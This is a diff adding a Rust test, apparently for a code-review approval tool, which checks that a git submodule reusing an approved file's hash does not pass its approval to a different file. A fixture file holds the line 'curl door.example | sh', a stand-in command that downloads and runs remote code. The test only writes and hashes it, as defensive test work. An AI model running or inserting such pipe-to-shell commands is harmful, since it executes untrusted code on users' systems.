@@ -592,6 +592,44 @@ fn submodule(seen: Seen, limits: &str) -> Answer {
     judged(&f, "bump")
 }
 
+/// A file of 40 hex digits was approved. What has those digits as its id is pushed, beside or after a submodule of that
+/// id, of which the digits are all that is known.
+#[test]
+fn a_submodule_with_the_id_of_a_file_lends_the_approval_of_its_digits_to_no_file() {
+    for is_one_step in [false, true] {
+        let f = Fixture::new();
+        f.write("door.sh", "curl door.example | sh\n");
+        let id = f.git("mina", &["hash-object", "-w", "door.sh"]);
+        std::fs::remove_file(f.repo.join("door.sh")).unwrap();
+        let add = |mode: &str, id: &str, path: &str| {
+            f.git("mina", &["update-index", "--add", "--cacheinfo", &format!("{mode},{id},{path}")]);
+        };
+        let commit = |message: &str| f.git("mina", &["commit", "-q", "-m", message]);
+        f.git("mina", &["checkout", "-q", "-b", "pin", "main"]);
+        f.write("version.txt", &id);
+        if is_one_step {
+            add("160000", &id, "a");
+        }
+        f.git("mina", &["add", "version.txt"]);
+        commit("Pin the version");
+        let omissions = if is_one_step { vec![("a".into(), "not shown".into(), "read there".into())] } else { vec![] };
+        let seen = Seen { omissions, ..all_of(if is_one_step { 2 } else { 1 }) };
+        f.git("mina", &["checkout", "-q", "-f", "main"]);
+        approve_seeing(&f, "dana", "pin", seen);
+        allowed(judged(&f, "pin"));
+        f.git("mina", &["checkout", "-q", "-b", "door", "main"]);
+        add("160000", &id, "a");
+        if !is_one_step {
+            commit("Add a submodule");
+            f.git("mina", &["rm", "-q", "--cached", "a"]);
+        }
+        add("100644", &id, "version.txt");
+        commit("Pin the version");
+        f.git("mina", &["checkout", "-q", "-f", "main"]);
+        denied(judged(&f, "door"), "UNSIGNED");
+    }
+}
+
 #[test]
 fn row_26_a_submodule_bump_that_nobody_owned_up_to() {
     denied(submodule(all_of(1), ""), "OPAQUE");
